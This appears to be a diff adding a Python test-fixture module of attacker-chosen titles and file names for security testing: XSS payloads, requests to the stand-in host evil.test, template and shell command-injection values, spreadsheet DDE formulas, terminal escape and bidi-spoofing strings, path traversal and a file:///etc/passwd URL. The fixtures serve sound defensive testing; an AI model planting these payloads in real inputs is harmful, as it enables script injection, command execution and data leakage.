@@ -1,0 +1,143 @@
+"""Titles, categories and file names as an attacker would choose them.
+
+A script that runs calls ``hacked()``, which `tests.support.web_pages.watched_page` reports. A request goes to
+evil.test. A file that is written outside is named hacked.
+"""
+
+HTML = (
+    "<script>hacked()</script>",
+    "<img src=x onerror=hacked()>",
+    "<svg onload=hacked()>",
+    "<svg><script>hacked()</script></svg>",
+    "<svg><animate onbegin=hacked() attributeName=x>",
+    "<iframe srcdoc='<script>parent.hacked()</script>'>",
+    "<iframe src=javascript:hacked()>",
+    "<a href=javascript:hacked() autofocus>x</a>",
+    "<body onload=hacked()>",
+    "<details open ontoggle=hacked()>",
+    "<input autofocus onfocus=hacked()>",
+    "<style>@import 'http://evil.test/x.css'</style>",
+    "<link rel=stylesheet href=http://evil.test/x>",
+    "<base href=http://evil.test/>",
+    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
+    "<form action=http://evil.test><button>",
+    "<math><mtext></style><img src=x onerror=hacked()>",
+    "</title><script>hacked()</script>",
+    "</script><script>hacked()</script>",
+    "</textarea><script>hacked()</script>",
+    "--><script>hacked()</script>",
+    "]]><script>hacked()</script>",
+    '"><img src=x onerror=hacked()>',
+    "'><img src=x onerror=hacked()>",
+    '" autofocus onfocus=hacked() x="',
+    "' style='background:url(http://evil.test/x)'",
+    "<object data=javascript:hacked()>",
+    "<video><source onerror=hacked()>",
+    "<template><script>hacked()</script></template>",
+    "\\u003cscript\\u003ehacked()\\u003c/script\\u003e",
+    "&lt;script&gt;hacked()&lt;/script&gt;",
+    "&#60;img src=x onerror=hacked()&#62;",
+    "%3Cscript%3Ehacked()%3C/script%3E",
+)
+URLS = (
+    "javascript:hacked()",
+    "JaVaScRiPt:hacked()",
+    "data:text/html,<script>hacked()</script>",
+    "vbscript:hacked()",
+    "//evil.test/x",
+    "http://evil.test/x.png",
+    "file:///etc/passwd",
+)
+TEMPLATES = (
+    "{{7*7}}",
+    "{% import os %}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{{constructor.constructor('hacked()')()}}",
+    "{0.__class__}",
+    "%s%n%(x)s",
+    "$(touch hacked)",
+    "`touch hacked`",
+    "; touch hacked",
+    "| touch hacked",
+    "&& touch hacked",
+)
+MARKDOWN = (
+    "[x](javascript:hacked())",
+    "![x](http://evil.test/x.png)",
+    "[x](http://evil.test)",
+    "<http://evil.test>",
+    "# Title",
+    "| a | b |",
+    "```",
+    "***",
+    "- item",
+    "> quote",
+    "[x]: http://evil.test",
+    "$$\\href{javascript:hacked()}{x}$$",
+    "---\ntitle: x\n---",
+    "~~x~~",
+)
+FORMULAS = (
+    "=cmd|'/C calc'!A0",
+    "+1+cmd|'/C calc'!A0",
+    "-2+3+cmd|'/C calc'!A0",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "'=1+1",
+    '"=1+1',
+    '=HYPERLINK("http://evil.test","x")',
+    '=IMPORTXML("http://evil.test","//a")',
+    "\uff1d1+1",
+    ";=1+1",
+    ",=1+1",
+)
+TERMINAL = (
+    "\x1b[31mred",
+    "\x1b]0;title\x07",
+    "\x9b31m",
+    "\x1b[2J",
+    "\x07\b\b\b",
+    "\r overwritten",
+    "\x1b]8;;http://evil.test\x07x\x1b]8;;\x07",
+    "\x00",
+    "\x7f",
+    "\u202egnp.exe",
+    "\u2066x",
+    "\u200b",
+    "\ufeff",
+    "\ud800x",
+    "x\udfff",
+    "\u2028x",
+    "\u0085x",
+    "\nINFO a false line",
+    "\nerror: a false line",
+)
+PATHS = (
+    "../../hacked",
+    "..\\..\\hacked",
+    "/tmp/hacked",
+    "C:\\hacked",
+    "~/hacked",
+    "con",
+    "NUL.txt",
+    ".",
+    "..",
+    "a/b",
+    "-rf",
+    "--help",
+    "x" * 5000,
+    "\N{GRINNING FACE}" * 300,
+    "%2e%2e%2fhacked",
+)
+TITLES = (*HTML, *URLS, *TEMPLATES, *MARKDOWN, *FORMULAS, *TERMINAL, *PATHS)
+CONTROL = {*map(chr, range(32)), *map(chr, range(127, 160))} - {"\n", "\t"}
+
+
+def controls_in(text: str) -> set[str]:
+    """The control characters, directions and unpaired surrogates in what a terminal is given, but tabs and newlines."""
+    return {each for each in text if each in CONTROL or "\ud800" <= each <= "\udfff" or "\u202a" <= each <= "\u2069"}
